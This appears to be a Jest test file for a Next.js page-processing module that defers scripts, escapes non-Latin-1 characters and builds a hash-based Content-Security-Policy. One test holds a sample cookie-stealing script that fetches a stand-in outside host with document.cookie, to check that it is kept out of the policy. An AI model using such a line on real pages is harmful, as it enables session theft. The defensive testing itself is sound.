import { createHash } from 'node:crypto';
import * as parse5 from 'parse5';
import {
  allowInlineScript,
  deferScripts,
  preparePage,
  scriptPolicy,
  toOneByte,
} from '@/lib/server/html/page-html.mts';

const chunk = (name: string, id = '') =>
  `<script src="/_next/static/chunks/${name}.js"${id} async=""></script>`;
const document = (head: string, body = '') =>
  `<!DOCTYPE html><html><head>${head}</head><body>${body}</body></html>`;
const sha = (code: string) => `'sha256-${createHash('sha256').update(code).digest('base64')}'`;
const DATA = '<script>self.__next_f.push([1,"a"])</script>';

afterEach(() => jest.restoreAllMocks());

describe('scripts of a page', () => {
  test('are requested by one script at the end of the head, in order and with their ids', () => {
    const html = deferScripts(document(chunk('a') + chunk('b', ' id="_R_"'), chunk('c')));
    expect(html).not.toMatch(/<script src=/);
    expect(html).toMatch(
      /<script>.*\(\[\["\/_next\/static\/chunks\/a\.js"\],\["\/_next\/static\/chunks\/b\.js","_R_"\],\["\/_next\/static\/chunks\/c\.js"\]\]\)<\/script><\/head>/s,
    );
  });

  test('have no preloads, which would fetch them before the first paint', () => {
    const preload = '<link rel="preload" as="script" fetchPriority="low" href="/_next/a.js"/>';
    expect(deferScripts(document(preload + chunk('a')))).not.toContain('preload');
  });

  test('do not change in a page without chunks or without a head', () => {
    expect(deferScripts(document(DATA))).toBe(document(DATA));
    expect(deferScripts(chunk('a'))).toBe(chunk('a'));
  });

  test('are merged if they contain data', () => {
    const { html } = preparePage(document('', DATA + DATA + DATA));
    expect(html.match(/<script>/g)).toHaveLength(1);
    expect(html.match(/__next_f\.push/g)).toHaveLength(3);
  });
});

describe('characters beyond Latin-1', () => {
  test('become references in markup and escapes in scripts, and accents stay', () => {
    const html = '<p title="“a”">é… 😀</p><script>self.__next_f.push([1,"é… 😀"])</script>';
    expect(toOneByte(html)).toBe(
      '<p title="&#8220;a&#8221;">é&#8230; &#128512;</p>' +
        String.raw`<script>self.__next_f.push([1,"é\u2026 \ud83d\ude00"])</script>`,
    );
  });

  test('leave the page unchanged for a browser', () => {
    const html = '<title>Menos CO₂ – 2026</title><p data-text="“a” 😀">é… 😀</p>';
    const parse = (text: string) => parse5.serialize(parse5.parse(text));
    expect(parse(toOneByte(html))).toBe(parse(html));
  });

  test('are escaped before the scripts are hashed', () => {
    const script = '<script>self.__next_f.push([1,"“a”"])</script>';
    const { html, headers } = preparePage(document('', script));
    const code = /<script>([^]*?)<\/script>/.exec(html)?.[1] ?? '';
    expect(html).not.toMatch(/[^\0-\xff]/);
    expect(headers['content-security-policy']).toContain(sha(code));
  });
});

describe('the policy of a page', () => {
  test("contains the hash of each of the server's own inline scripts", () => {
    allowInlineScript('document.title="x"');
    const { html, headers } = preparePage(
      document(chunk('a') + '<script>document.title="x"</script>', DATA),
    );
    const codes = [...html.matchAll(/<script>([^]*?)<\/script>/g)].map(([, code = '']) => code);
    expect(codes).toHaveLength(3);
    for (const code of codes) expect(headers['content-security-policy']).toContain(sha(code));
    expect(headers['content-security-policy']).not.toContain('unsafe-inline');
  });

  test('omits any other script, which browsers then block, and logs only its length', () => {
    const written = jest.spyOn(process.stderr, 'write').mockReturnValue(true);
    const attack = 'fetch("//elsewhere.example/"+document.cookie)';
    expect(scriptPolicy(`<script>${attack}</script>`)).toBe("script-src 'self'");
    expect(String(written.mock.calls)).toContain(`"length":${attack.length}`);
    expect(String(written.mock.calls)).not.toContain('elsewhere');
  });

  test.each([
    [
      'a loader with anything but chunks',
      `<script>${'LOADER'}([["https://x.example/a.js"]])</script>`,
    ],
    ['data followed by code', '<script>self.__next_f.push([1,"a"]);alert(1)</script>'],
  ])('omits %s', (_name, script) => {
    jest.spyOn(process.stderr, 'write').mockReturnValue(true);
    const deferred = deferScripts(document(chunk('a')));
    const loader = /<script>(.*)\(\[\[/s.exec(deferred)?.[1] ?? '';
    expect(scriptPolicy(script.replace('LOADER', () => loader))).toBe("script-src 'self'");
  });

  test('ignores data blocks, which no browser runs', () => {
    expect(scriptPolicy('<script type="application/ld+json">{}</script>')).toBe(
      "script-src 'self'",
    );
  });

  test("allows Google's map only if its key and map id are set", () => {
    process.env.GOOGLE_MAPS_API_KEY = 'k'.repeat(20);
    process.env.GOOGLE_MAPS_MAP_ID = 'mapa';
    expect(scriptPolicy('')).toBe("script-src 'self' https://maps.googleapis.com");
    delete process.env.GOOGLE_MAPS_MAP_ID;
    expect(scriptPolicy('')).toBe("script-src 'self'");
    delete process.env.GOOGLE_MAPS_API_KEY;
  });
});

test('a redirect is stored without its page, which nobody sees', () => {
  expect(preparePage(document(chunk('a')), 308).html).toBe('');
});
